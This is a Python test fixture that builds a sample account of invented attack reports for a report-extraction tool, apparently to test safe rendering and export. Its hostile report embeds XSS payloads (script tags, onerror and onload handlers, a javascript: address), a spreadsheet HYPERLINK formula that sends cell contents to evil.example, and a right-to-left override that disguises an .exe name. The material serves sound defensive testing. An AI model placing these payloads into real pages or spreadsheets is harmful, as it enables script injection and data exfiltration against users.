"""A small account made by hand: incidents, every kind of mention, and all that a hostile report tries."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import date, timedelta

from polybius.records import (
    Account,
    ActorRef,
    Assessment,
    Candidate,
    CausalClaim,
    Count,
    EventMention,
    Figure,
    Footnote,
    Found,
    Incident,
    Passage,
    PassageKind,
    Phrase,
    Place,
    Quote,
    Reject,
    Relation,
    Report,
    Source,
    Span,
    Statement,
    WeaponRef,
    When,
    Where,
)
from tests.bare import bare_mention

HARBOUR = Place("site:north-harbour", "North Harbour", "port", "XK", 42.60, 20.90, 3.0)
TOWN = Place("geonames:1", "Testtown", "city", "XK", 42.67, 21.17, 10.0)
OTHER_TOWN = Place("geonames:2", "Testtown", "city", "AL", 41.0, 20.0, 10.0)
PROVINCE = Place("admin1:XK.01", "East Province", "admin1", "XK", 42.5, 21.4, 40.0)
COUNTRY = Place("country:XK", "Kosovo", "country", "XK", 42.6, 20.9, 60.0)

HOSTILE_LABEL = "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
HOSTILE_SCRIPT = "</script><script>window.hacked=1</script>"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1)</script><script>window.hacked=1</script>'
LONG_WORD = "Donaudampfschifffahrt" * 30
TURNED = "safe \u202egnp.exe\u202c words"

AGENCY_TEXT = (
    "The port was quiet in spring. On 6 June 2021 rockets hit North Harbour, killing three guards.7 "
    "Nobody claimed it. 🚀🚀 A convoy was attacked near Testtown in July 2021.\n\n"
    "The Council plans to vote in August 2021. Dr. Hill denied that talks were held.\n\n"
    "7 Daily Paper, 2021-06-07, https://paper.example/a"
)
PAPER_TEXT = (
    "Rockets struck Testtown on 8 June 2021 and killed at least 5 people. "
    "There were 25 attacks this year in East Province. The group said it had fired once in Kosovo."
)
HOSTILE_TEXT = (
    f"Before it all. {HOSTILE_LABEL} was attacked by @SUM(1+1) on {TURNED}; {LONG_WORD} fell.\u2028 "
    "</script><script>window.hacked=1</script> After it all."
)


def make_report(name: str, text: str, *, passages: tuple[Passage, ...] | None = None) -> Report:
    """A report of one passage unless told otherwise."""
    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    whole = (Passage(0, PassageKind.PARAGRAPH, (Span(0, len(text)),), page=2),)
    return Report(digest[:12], name, f"/in/{name}", "text/plain", digest, text, passages or whole)


def words(report: Report, text: str) -> Quote:
    """The quote of the words where they first stand in the report."""
    start = report.text.index(text)
    return report.quote(start, start + len(text))


def actor(name: str, report: Report, text: str) -> ActorRef:
    quote = words(report, text)
    return ActorRef(name, text, quote.start, quote.end, None)


def weapon(name: str, report: Report, text: str) -> WeaponRef:
    quote = words(report, text)
    return WeaponRef(name, text, quote.start, quote.end)


def phrase(name: str, report: Report, text: str) -> Phrase:
    quote = words(report, text)
    return Phrase(name, text, quote.start, quote.end)


def make_mention(report: Report, number: int, quote: str, trigger: str, **fields: object) -> EventMention:
    """An attack that says nothing but its words, unless told otherwise."""
    return bare_mention(f"{report.id}.e{number}", words(report, quote), words(report, trigger), **fields)


def make_incident(number: int, label: str, *mentions: EventMention, **fields: object) -> Incident:
    """An incident that takes its values from its first mention, unless told otherwise."""
    first = mentions[0]
    bare = Incident(
        id=f"i{number}",
        label=label,
        type=first.type,
        mode=first.mode,
        mentions=tuple(mention.id for mention in mentions),
        when=first.when,
        where=first.where,
        actors=first.actors,
        recipients=first.recipients,
        weapons=first.weapons,
        killed=first.killed,
        injured=first.injured,
        result=first.result,
        realis=first.realis,
        status=first.status,
        reports=tuple(dict.fromkeys(mention.report for mention in mentions)),
        rules=(("date", "the narrowest that no mention excludes"),),
    )
    return replace(bare, **fields)  # type: ignore[arg-type]


def at(place: Place, prec: int, text: str | None = None, *candidates: Candidate) -> Where:
    return Where(place.name, text, place, prec, candidates, "said in the clause")


def on(edtf: str, text: str | None = None) -> When:
    return When.from_edtf(edtf, how="said in the clause", text=text)


def agency_report() -> Report:
    text = AGENCY_TEXT
    second, note = text.index("The Council"), text.index("7 Daily")
    mark = text.index("7 Nobody")
    passages = (
        Passage(0, PassageKind.PARAGRAPH, (Span(0, second - 2),), page=1),
        Passage(1, PassageKind.PARAGRAPH, (Span(second, note - 2),), page=2),
        Passage(2, PassageKind.FOOTNOTE, (Span(note, len(text)),), page=2),
    )
    return replace(
        make_report("agency.txt", text, passages=passages),
        footnotes=(
            Footnote(
                "7",
                Span(note, len(text)),
                (Span(mark, mark + 1),),
                outlet="Daily Paper",
                date="2021-06-07",
                address="https://paper.example/a",
            ),
        ),
        marks=(Span(mark, mark + 1),),
        title=Found("Rockets on the harbour", "first line"),
        outlet=Found("The Agency", "front matter"),
        published=Found("2021-06-10", "front matter"),
        address="https://agency.example/1",
    )


def hostile_report() -> Report:
    return replace(
        make_report("hostile.html", HOSTILE_TEXT),
        title=Found(f"{HOSTILE_LABEL} {TURNED}", "html title"),
        author=Found('"><svg onload=window.hacked=1>', "html meta author"),
        address="javascript:window.hacked=1",
        copy_of="feedfeedfeed",
    )


def make_account() -> Account:
    """The account. Incident i1 is told by two reports that differ; i6 is the hostile one; i4 sums up i1."""
    agency, paper, hostile = agency_report(), make_report("paper.txt", PAPER_TEXT), hostile_report()
    harbour = make_mention(
        agency,
        1,
        "On 6 June 2021 rockets hit North Harbour, killing three guards",
        "hit",
        where=at(HARBOUR, 1, "North Harbour"),
        when=on("2021-06-06", "On 6 June 2021"),
        killed=Count(3, 3, "three guards"),
        recipients=(actor("Guards of the harbour", agency, "three guards"),),
        weapons=(weapon("rocket", agency, "rockets"),),
        source=Source(("Daily Paper, 2021-06-07",), (words(agency, "7 Daily Paper, 2021-06-07"),)),
        status="reported",
        notes=("the doer is not told",),
    )
    convoy = make_mention(
        agency,
        2,
        "A convoy was attacked near Testtown in July 2021",
        "attacked",
        mode="unspecified",
        where=at(TOWN, 2, "Testtown", Candidate(TOWN, 0.4), Candidate(OTHER_TOWN, 0.35)),
        when=on("2021-07", "in July 2021"),
        support=(words(agency, "Nobody claimed it."), words(agency, "Dr. Hill")),
    )
    vote = make_mention(
        agency,
        3,
        "The Council plans to vote in August 2021",
        "vote",
        type="REQUEST",
        mode="vote",
        passage=1,
        when=on("2021-08", "in August 2021"),
        realis="planned",
        actors=(actor("The Council", agency, "The Council"),),
    )
    talks = make_mention(
        agency,
        4,
        "talks were held",
        "talks",
        type="CONSULT",
        mode="",
        passage=1,
        realis="negated",
        status="denied",
    )
    again = make_mention(
        paper,
        1,
        "Rockets struck Testtown on 8 June 2021 and killed at least 5 people",
        "struck",
        where=at(OTHER_TOWN, 1, "Testtown"),
        when=on("2021-06-08", "on 8 June 2021"),
        killed=Count(5, None, "at least 5 people"),
    )
    summary = make_mention(
        paper,
        2,
        "25 attacks this year in East Province",
        "attacks",
        mode="unspecified",
        where=at(PROVINCE, 4, "East Province"),
        when=on("2021", "this year"),
        count=Count(25, 25, "25"),
    )
    claim = make_mention(
        paper,
        3,
        "The group said it had fired once in Kosovo",
        "fired",
        where=at(COUNTRY, 6, "Kosovo"),
        status="claimed",
        actors=(actor("Red Group", paper, "The group"),),
        killed=Count(0, 0),
    )
    attack = make_mention(
        hostile,
        1,
        f"{HOSTILE_LABEL} was attacked by @SUM(1+1) on {TURNED}; {LONG_WORD} fell.",
        "attacked",
        where=Where(HOSTILE_NAME, "@SUM(1+1)", None, None, (), "said in the clause"),
        when=on("2021-05/2021-06"),
        actors=(actor("@SUM(1+1)", hostile, "@SUM(1+1)"),),
        recipients=(actor(HOSTILE_NAME, hostile, "Before it all"),),
        source=Source((TURNED, "-2+3")),
        notes=(HOSTILE_LABEL,),
        killed=Count(None, None, "</script>"),
    )
    mentions = (harbour, convoy, vote, talks, again, summary, claim, attack)
    return Account(
        title="The harbour case <b>&amp;",
        build="b1",
        made="2026-01-02T03:04:05+00:00",
        program="polybius 0.1.0",
        reports=(agency, paper, hostile),
        rejects=(Reject("/in/broken<script>.pdf", "the file is encrypted", "UnreadableSource"),),
        mentions=mentions,
        links=(),
        incidents=(
            make_incident(1, "Rockets on North Harbour", harbour, again, part_of="i4"),
            make_incident(2, "Convoy attacked near Testtown", convoy),
            make_incident(3, "Council to vote", vote),
            make_incident(4, "25 attacks in East Province", summary, summary=True),
            make_incident(5, "Red Group says it fired", claim),
            make_incident(6, HOSTILE_LABEL, attack),
            make_incident(7, "Talks that were not held", talks),
        ),
        statements=(
            _said(
                agency,
                1,
                "Dr. Hill denied that talks were held",
                "denial",
                "Dr. Hill",
                "talks were held",
                talks.id,
            ),
            _said(
                paper,
                1,
                "The group said it had fired once",
                "claim-of-responsibility",
                "The group",
                "it had fired",
                claim.id,
            ),
            _said(hostile, 1, HOSTILE_SCRIPT, "warning", "@SUM(1+1)", HOSTILE_SCRIPT, None),
        ),
        figures=(
            _counted(
                paper, 1, "at least 5 people", "5 people", "at least 5", measure="fatalities", value=5, low=5
            ),
            _counted(
                paper,
                2,
                "25 attacks this year",
                "attacks",
                "25",
                measure="event-count",
                value=25,
                when=on("2021"),
            ),
            _counted(agency, 1, "three guards", "guards", "three", measure="fatalities", value=3),
            _counted(
                hostile,
                1,
                f"{HOSTILE_SCRIPT} After it all",
                HOSTILE_SCRIPT,
                "After",
                measure="other",
                value=-2,
            ),
        ),
        relations=(
            _related(agency, 1, "rockets hit North Harbour", "rockets", "located-at", "North Harbour"),
            _related(
                hostile,
                1,
                f"{HOSTILE_LABEL} was attacked by @SUM(1+1)",
                "@SUM(1+1)",
                "opposes",
                HOSTILE_LABEL,
            ),
        ),
        assessments=(
            _judged(agency, 1, "The Council plans to vote in August 2021", "plans", resolvable=True),
            _judged(hostile, 1, HOSTILE_SCRIPT, None, resolvable=False),
        ),
        causal=(
            _causes(paper, 1, "Rockets struck Testtown on 8 June 2021 and killed", "Rockets", "killed", 1),
            _causes(hostile, 1, f"{HOSTILE_SCRIPT} After", HOSTILE_SCRIPT, "After", -1),
        ),
    )


_UNDATED = When.unknown("nothing in the passage dates it")


def _said(
    report: Report, number: int, quote: str, kind: str, speaker: str, content: str, about: str | None
) -> Statement:
    by = actor(speaker, report, speaker)
    return Statement(
        f"{report.id}.s{number}",
        report.id,
        0,
        words(report, quote),
        kind,
        by,
        about,
        words(report, content),
        False,
        "reported",
        Source((speaker,), (words(report, speaker),)),
        "test.said",
    )


def _counted(
    report: Report,
    number: int,
    quote: str,
    subject: str,
    told: str,
    *,
    measure: str,
    value: float | None = None,
    low: float | None = None,
    when: When = _UNDATED,
) -> Figure:
    return Figure(
        f"{report.id}.f{number}",
        report.id,
        0,
        words(report, quote),
        measure,
        phrase(subject, report, subject),
        value,
        low,
        None,
        "persons",
        words(report, told),
        when,
        False,
        False,
        "asserted",
        Source(()),
        "test.figure",
    )


def _related(report: Report, number: int, quote: str, subject: str, relation: str, other: str) -> Relation:
    return Relation(
        f"{report.id}.r{number}",
        report.id,
        0,
        words(report, quote),
        actor(subject, report, subject),
        relation,
        actor(other, report, other),
        on("2019/.."),
        _UNDATED,
        False,
        "asserted",
        Source(()),
        "test.relation",
    )


def _judged(
    report: Report, number: int, quote: str, likelihood: str | None, *, resolvable: bool
) -> Assessment:
    return Assessment(
        f"{report.id}.a{number}",
        report.id,
        0,
        words(report, quote),
        words(report, quote),
        words(report, likelihood) if likelihood else None,
        on("2021-08"),
        None,
        resolvable,
        True,
        "asserted",
        Source(()),
        "test.judged",
        ("likelihood: likely",),
    )


def _causes(report: Report, number: int, quote: str, cause: str, effect: str, polarity: int) -> CausalClaim:
    return CausalClaim(
        f"{report.id}.c{number}",
        report.id,
        0,
        words(report, quote),
        phrase(f"the {cause}", report, cause),
        phrase(effect, report, effect),
        polarity,
        True,
        "asserted",
        Source(()),
        "test.cause",
    )


def make_crowd(number: int) -> Account:
    """An account of so many incidents, a day apart from 2001 on, all told by the first mention."""
    account = make_account()
    mention = account.mentions[0]
    days = [date(2001, 1, 1) + timedelta(days=n) for n in range(number)]
    incidents = (
        make_incident(n, f"Incident {n}", mention, when=on(day.isoformat())) for n, day in enumerate(days, 1)
    )
    return replace(account, title="A crowd", incidents=tuple(incidents))


def make_many_figures(number: int) -> Account:
    """An account with so many figures of one measure, all told in the same words."""
    account = make_account()
    first = account.figures[1]
    figures = (
        replace(first, id=f"{first.report}.f{n}", value=n * 7919 % number) for n in range(1, number + 1)
    )
    return replace(account, title="Many figures", figures=tuple(figures))
